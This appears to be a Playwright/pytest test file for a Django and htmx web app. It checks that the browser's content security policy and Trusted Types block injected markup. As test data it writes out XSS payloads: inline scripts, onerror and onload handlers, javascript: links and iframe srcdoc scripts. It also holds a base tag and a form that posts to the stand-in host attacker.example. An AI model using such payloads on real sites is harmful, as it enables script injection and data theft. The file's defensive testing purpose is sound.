"""If a page printed a stranger's text unescaped, the browser and htmx would still block it.

The text is put into the answer on its way to the browser, with the headers that the server sent: the effect of a
template with a mistake.
"""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import expect

from accounts.models import Invitation
from tests import refusals
from tests.browsing import enter
from tests.hostile import INVITATION
from tests.people import Cast

pytestmark = [pytest.mark.journey, pytest.mark.django_db(transaction=True)]

EXPORTS = "/m/cuprija/settings/export/"
SCRIPTS = """
<script>document.documentElement.dataset.ran = "inline"</script>
<img src="/nothing.png" onerror="document.documentElement.dataset.ran = 'handler'">
<svg onload="document.documentElement.dataset.ran = 'svg'"></svg>
<a id="link" href="javascript:document.documentElement.dataset.ran='address'">here</a>
<script src="/static/js/theme.js?of-a-stranger"></script>
<script type="module" src="/static/vendor/htmx.min.js?of-a-stranger"></script>
<base href="https://attacker.example/">
<iframe srcdoc="<script>parent.document.documentElement.dataset.ran = 'frame'</script>"></iframe>
"""


def misprinted(page: Any, path: str, markup: str) -> list[str]:
    """From now on the page at `path` has this markup at the end of its content; returns the finished requests."""
    asked: list[str] = []

    def print_raw(route: Any) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("</main>", f"{markup}</main>", 1))

    page.route(f"**{path}", print_raw)
    # Requests that the policy blocks are announced and never sent.
    page.on("requestfinished", lambda request: asked.append(f"{request.method} {request.url}"))
    return asked


@pytest.fixture
def attacked() -> Any:
    """The refusals of the test are what it is about."""
    yield refusals.take
    refusals.take()


def test_words_that_are_htmx_and_a_script_invite_nobody(page: Any, live_server: Any, cast: Cast, attacked: Any) -> None:
    enter(page, live_server, cast.approver)
    asked = misprinted(page, EXPORTS, INVITATION)
    page.goto(live_server.url + EXPORTS)
    expect(page.locator("i[hx-post]")).to_have_count(1)
    assert page.evaluate("typeof htmx") == "object"  # the page's own htmx is loaded and has processed it
    page.evaluate("htmx.process(document.body)")
    page.wait_for_load_state("networkidle")
    assert [line for line in asked if line.startswith("POST")] == []
    assert Invitation.objects.count() == 0
    assert any("script" in line for line in attacked())


def test_htmx_passes_over_elements_of_strangers(page: Any, live_server: Any, cast: Cast, attacked: Any) -> None:
    marks = ("", "data-htmx=guessed", "data-hx-boost=true hx-disinherit=x")
    markup = "".join(
        f'<div {mark} hx-get="/m/cuprija/members/" hx-trigger="load" hx-target="body" hx-swap="beforeend"></div>'
        f'<form {mark} action="/m/cuprija/members/invite/" method="post" hx-boost="true">'
        '<button class="go">x</button></form>'
        f'<p {mark} data-hx-post="/m/cuprija/members/invite/" data-hx-trigger="load" hx-on:click="alert(1)">x</p>'
        for mark in marks
    )
    enter(page, live_server, cast.approver)
    asked = misprinted(page, EXPORTS, markup)
    page.goto(live_server.url + EXPORTS)
    expect(page.locator(".go")).to_have_count(len(marks))
    page.wait_for_load_state("networkidle")
    assert [line for line in asked if "/members/" in line] == []


def test_no_script_of_a_stranger_runs(page: Any, live_server: Any, cast: Cast, attacked: Any) -> None:
    enter(page, live_server, cast.approver)
    asked = misprinted(page, EXPORTS, SCRIPTS)
    page.goto(live_server.url + EXPORTS)
    page.evaluate("document.getElementById('link').click()")
    page.wait_for_load_state("networkidle")
    assert page.evaluate("document.documentElement.dataset.ran") is None
    assert [line for line in asked if "of-a-stranger" in line or "attacker" in line] == []
    assert len(attacked()) >= 5


def test_a_form_of_a_stranger_leads_nowhere_else(page: Any, live_server: Any, cast: Cast, attacked: Any) -> None:
    enter(page, live_server, cast.approver)
    markup = '<form action="https://attacker.example/" method="post"><input name="x"><button id="go">x</button></form>'
    asked = misprinted(page, EXPORTS, markup)
    page.goto(live_server.url + EXPORTS)
    page.evaluate("document.getElementById('go').click()")
    page.wait_for_load_state("networkidle")
    assert [line for line in asked if "attacker" in line] == []
    assert page.url == live_server.url + EXPORTS
    assert any("form-action" in line for line in attacked())


TO_MARKUP = {
    "innerHTML": "document.body.innerHTML = '<b>x</b>'",
    "insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
    "document.write": "document.write('<b>x</b>')",
    "a script's address": "Object.assign(document.createElement('script'), { src: '/static/js/theme.js' })",
    "a script's text": "Object.assign(document.createElement('script'), { text: 'x' })",
    "srcdoc": "Object.assign(document.createElement('iframe'), { srcdoc: 'x' })",
    "another policy": "trustedTypes.createPolicy('own', { createHTML: (text) => text })",
    "the same policy again": "trustedTypes.createPolicy('portal', { createHTML: (text) => text })",
}
PARSES = "new DOMParser().parseFromString('<b>x</b>', 'text/html')"


def test_no_script_makes_markup_of_text(
    page: Any, live_server: Any, cast: Cast, attacked: Any, subtests: pytest.Subtests
) -> None:
    enter(page, live_server, cast.approver)
    for path in (EXPORTS, "/m/cuprija/calendar/"):
        page.goto(live_server.url + path)
        page.wait_for_load_state("load")
        for name, script in TO_MARKUP.items():
            with subtests.test(name, path=path):
                caught = page.evaluate(f"() => {{ try {{ {script}; }} catch (error) {{ return error.name; }} }}")
                assert caught == "TypeError"


def test_only_pages_with_htmx_parse_text_without_our_module(
    page: Any, live_server: Any, cast: Cast, attacked: Any
) -> None:
    enter(page, live_server, cast.approver)
    tried = f"() => {{ try {{ return {PARSES}.body.textContent; }} catch (error) {{ return error.name; }} }}"
    for path, expected in ((EXPORTS, "x"), ("/m/cuprija/calendar/", "TypeError")):
        page.goto(live_server.url + path)
        page.wait_for_load_state("load")
        assert page.evaluate(tried) == expected, path


@pytest.mark.slow
def test_nothing_of_the_page_stays_in_the_storage_of_the_browser(page: Any, live_server: Any, cast: Cast) -> None:
    enter(page, live_server, cast.approver)
    page.goto(live_server.url + EXPORTS)
    with page.expect_response(lambda answer: answer.request.headers.get("hx-request") == "true"):
        page.get_by_role("button", name="Create the file").click()
    page.goto(f"{live_server.url}/m/cuprija/inbox/")
    stored = page.evaluate("Object.entries({...localStorage, ...sessionStorage})")
    # The address of the last page with htmx, as long as the tab is open: it holds no personal data.
    assert [entry for entry in stored if "htmx" in entry[0]] == [["htmx-current-path-for-history", EXPORTS]]
